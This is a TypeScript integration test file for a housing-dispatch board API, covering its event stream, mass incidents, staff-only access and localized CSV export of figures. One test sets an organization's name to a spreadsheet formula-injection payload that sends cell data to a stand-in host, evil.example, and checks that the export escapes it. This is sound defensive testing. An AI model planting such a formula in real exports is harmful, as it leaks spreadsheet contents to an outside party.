// The board's read model and its event stream, and the figures' names (in JSON and in the CSV a
// person downloads, in their language), on the real stack: the
// board gives each request its address, apartment and the model's suggestions, and lists the
// unresolved mass incidents with their linked counts; the stream says `changed` when a request
// arrives; only the organization's staff may read either.
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EventParser, type ServerEvent } from '../../widgets/core/sse.ts';
import { call, ok, problem } from '../register/api-fixtures.ts';
import { classification, type DispatchEnv, newScene, startDispatchEnv, submit } from './fixtures.ts';

let env: DispatchEnv;
beforeAll(async () => {
  env = await startDispatchEnv();
}, 120_000);
afterAll(() => env?.stop());

interface Board {
  items: {
    id: string;
    number: string;
    building: { address: string; plotLon: number | null };
    apartmentNumber: string | null;
    suggestions: { categoryTop: { value: string; confidence: number }[]; urgencyConfidence: number } | null;
  }[];
  massIncidents: { id: string; category: string; linked: number; address: string }[];
}

/** Opens the stream and hands back a way to wait for an event of a kind, and to close it. */
async function openStream(token: string) {
  const res = await env.app.app.request('/api/v1/dispatch/board/stream', {
    headers: { Authorization: `Bearer ${token}`, Accept: 'text/event-stream' },
  });
  expect(res.status).toBe(200);
  expect(res.headers.get('content-type')).toMatch(/^text\/event-stream/);
  const events: ServerEvent[] = [];
  const parser = new EventParser((e) => events.push(e));
  const reader = res.body!.pipeThrough(new TextDecoderStream()).getReader();
  const next = async (kind: string): Promise<ServerEvent> => {
    for (;;) {
      const found = events.findIndex((e) => e.event === kind);
      if (found >= 0) return events.splice(0, found + 1).at(-1)!;
      const { done, value } = await reader.read();
      if (done) throw new Error(`the stream ended before a ${kind} event`);
      parser.push(value);
    }
  };
  return { next, close: () => reader.cancel() };
}

describe('dispatch board API', () => {
  it('streams a change when a request arrives, and the board then shows it with its address and suggestions', async () => {
    const s = await newScene(env);
    const stream = await openStream(s.dispatcher);
    try {
      const ready = await stream.next('ready');
      env.triage.next = classification('water_leak', 'urgent', 0.4);
      const r = await submit(env, s, 'Shiftdan suv tomchilayapti');
      const changed = await stream.next('changed');
      expect(changed.data).not.toBe(ready.data);
      const board = await ok<Board>(await call(env.app, 'GET', '/dispatch/board', { token: s.dispatcher }));
      const item = board.items.find((i) => i.id === r.id)!;
      expect(item).toMatchObject({ number: r.number, apartmentNumber: '1', building: { plotLon: null } });
      expect(item.building.address).toMatch(/^Test ko'chasi /);
      expect(item.suggestions?.categoryTop.map((c) => c.value)).toEqual(['water_leak', 'other']);
      expect(item.suggestions?.urgencyConfidence).toBeCloseTo(0.4);
    } finally {
      await stream.close();
    }
  }, 60_000);

  it('lists an unresolved mass incident with its linked requests', async () => {
    const s = await newScene(env);
    env.triage.next = classification('electricity', 'urgent');
    await submit(env, s, 'Svet yo‘q butun podyezdda');
    await submit(env, s, 'Электричества нет во всём подъезде');
    const c = await submit(env, s, 'No power in the whole entrance');
    const board = await ok<Board>(await call(env.app, 'GET', '/dispatch/board', { token: s.dispatcher }));
    expect(board.massIncidents).toEqual([
      expect.objectContaining({ id: c.massIncident!.id, category: 'electricity', linked: 3 }),
    ]);
    // Another organization's board shows none of it.
    const other = await newScene(env);
    const theirs = await ok<Board>(
      await call(env.app, 'GET', '/dispatch/board', { token: other.dispatcher }),
    );
    expect(theirs).toEqual({ items: [], massIncidents: [] });
  }, 60_000);

  it('refuses the stream without a token and to anyone but the organization’s staff', async () => {
    const s = await newScene(env);
    await problem(await call(env.app, 'GET', '/dispatch/board/stream', {}), 401);
    await problem(await call(env.app, 'GET', '/dispatch/board/stream', { token: s.owner }), 403);
    await problem(await call(env.app, 'GET', '/dispatch/board/stream', { token: s.org.tokens.council }), 403);
  });

  it('names each organization in the figures', async () => {
    const s = await newScene(env);
    env.triage.next = classification('elevator', 'urgent');
    await submit(env, s, 'Lift ishlamayapti');
    const now = new Date(Date.now() + 5 * 3_600_000);
    const quarter = `${now.getUTCFullYear()}-Q${Math.floor(now.getUTCMonth() / 3) + 1}`;
    const figures = await ok<{ items: { organizationId: string; name: string; requests: number }[] }>(
      await call(env.app, 'GET', `/dispatch/figures?quarter=${quarter}`, { token: s.org.tokens.council }),
    );
    expect(figures.items).toEqual([
      expect.objectContaining({
        organizationId: s.org.id,
        name: expect.stringMatching(/^Obod Uy /),
        requests: 1,
      }),
    ]);
  }, 60_000);

  it('downloads the figures as CSV in the reader’s language, names first, a formula-like name as text', async () => {
    const s = await newScene(env);
    // An organization chooses its own name: one a spreadsheet would run must reach it as text.
    const name = '=HYPERLINK("http://evil.example/?d="&A2,"Obod Uy")';
    await env.em().execute('update management_organization set name = ? where id = ?', [name, s.org.id]);
    env.triage.next = classification('elevator', 'urgent');
    await submit(env, s, 'Lift ishlamayapti');
    const now = new Date(Date.now() + 5 * 3_600_000);
    const [year, q] = [now.getUTCFullYear(), Math.floor(now.getUTCMonth() / 3) + 1];
    const csv = async (lang: string) => {
      const res = await call(env.app, 'GET', `/dispatch/figures?quarter=${year}-Q${q}&format=csv`, {
        token: s.org.tokens.council,
        headers: { 'Accept-Language': lang },
      });
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(res.headers.get('content-disposition')).toBe(
        `attachment; filename="dispatch-${year}-Q${q}.csv"`,
      );
      const bytes = new Uint8Array(await res.arrayBuffer());
      expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      return parse(new TextDecoder().decode(bytes)) as string[][];
    };
    const expected = {
      uz: ['Tashkilot', 'Tashkilot identifikatori', 'Chorak', 'Murojaatlar', `${year}-yil ${q}-chorak`],
      'ru-RU,ru;q=0.9': [
        'Организация',
        'Идентификатор организации',
        'Квартал',
        'Заявок',
        `${q} квартал ${year}`,
      ],
      en: ['Organization', 'Organization ID', 'Quarter', 'Requests', `Q${q} ${year}`],
    };
    for (const [lang, [n, id, quarter, requests, quarterName]] of Object.entries(expected)) {
      const [header, ...rows] = await csv(lang);
      expect(header!.slice(0, 4), lang).toEqual([n, id, quarter, requests]);
      expect(header!.join(' '), lang).not.toMatch(/\b[a-z]+_[a-z_]+\b/);
      expect(rows, lang).toHaveLength(1);
      expect(rows[0]!.slice(0, 4), lang).toEqual([`'${name}`, s.org.id, quarterName, '1']);
    }
  }, 60_000);
});
